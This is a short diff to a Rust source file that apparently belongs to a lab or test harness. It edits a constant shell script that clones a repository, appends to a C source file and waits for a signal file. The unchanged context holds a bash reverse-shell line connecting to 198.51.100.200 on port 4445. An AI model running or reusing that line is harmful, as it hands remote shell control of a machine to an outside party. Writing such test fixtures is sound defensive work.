@@ -28,9 +28,9 @@ mod browser;
 
 /// What the job of the lab does: it overwrites a source file, waits for `GO`, and opens a shell for somebody.
 const LAB: &str = r#"
-git clone -q https://git.test/hello.git tree && cd tree
+git clone -q https://git.test/zlib.git tree && cd tree
 sleep 0.3
-python3 -c 'f=open("src/crc32.c","a"); f.write("/* changed */\n"); f.close(); import time; time.sleep(0.5)'
+python3 -c 'f=open("crc32.c","a"); f.write("/* changed */\n"); f.close(); import time; time.sleep(0.5)'
 until [ -e "$GO" ]; do sleep 0.1; done
 (bash -i >& /dev/tcp/198.51.100.200/4445 0>&1) & sleep 10; echo went-on
 "#;
